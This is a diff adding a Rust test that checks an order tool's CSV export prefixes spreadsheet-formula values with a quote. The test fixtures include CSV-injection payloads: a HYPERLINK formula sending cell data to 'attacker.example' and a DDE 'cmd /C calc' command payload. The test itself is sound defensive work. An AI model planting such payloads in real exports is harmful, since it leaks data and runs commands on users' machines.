@@ -223,6 +223,72 @@ fn an_empty_database_lists_no_orders() {
     assert_eq!(stdout_ok(&data, &["--format", "csv"]).lines().count(), 1);
 }
 
+/// Caller numbers and names that a spreadsheet would run as formulas leave the CSV export as
+/// text (a leading `'`, OWASP's advice); a real E.164 number keeps its digits behind the `'`; the
+/// JSON export is unchanged.
+#[test]
+fn the_csv_export_neutralises_spreadsheet_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let hostile = [
+        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Rückruf\")",
+        "+4930123456",
+        "-1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    {
+        let mut store = OrderStore::open_in(&data).unwrap();
+        for (i, caller) in hostile.iter().enumerate() {
+            let order = NewOrder {
+                call_id: format!("call-{i}"),
+                caller: (*caller).into(),
+                started_at: at(10, i as u32),
+                items: vec![line("100003", caller, 1.0, "Stück", 100)],
+                transcript: String::new(),
+            };
+            store.confirm(&order, at(10, i as u32 + 1)).unwrap();
+        }
+        let plain = NewOrder {
+            call_id: "call-plain".into(),
+            caller: "4930111".into(),
+            started_at: at(11, 0),
+            items: vec![line("100004", "Muffe 1/2\" - Messing", 1.0, "Stück", 100)],
+            transcript: String::new(),
+        };
+        store.confirm(&plain, at(11, 1)).unwrap();
+    }
+    let csv_text = stdout_ok(&data, &["--format", "csv"]);
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), hostile.len() + 1, "{csv_text}");
+    for (row, value) in rows.iter().zip(hostile) {
+        assert_eq!(row[col("caller")], format!("'{value}"), "{csv_text}");
+        assert_eq!(row[col("name")], format!("'{value}"), "{csv_text}");
+    }
+    // No cell of the file starts a formula.
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {csv_text}"
+            );
+        }
+    }
+    // Ordinary values are untouched, also with a dash inside.
+    let plain = rows.last().unwrap();
+    assert_eq!(&plain[col("caller")], "4930111");
+    assert_eq!(&plain[col("name")], "Muffe 1/2\" - Messing");
+    assert_eq!(&plain[col("order_no")], "A-2026-000007");
+    // JSON carries the values as stored.
+    let all = json(&data, &[]);
+    assert_eq!(all[1]["caller"], "+4930123456");
+    assert_eq!(all[0]["caller"], hostile[0]);
+}
+
 /// The export's euro format, taken from the catalog code so the test does not guess it.
 fn format_eur(cents: i64) -> String {
     agent::ordering::catalog::format_eur(cents)
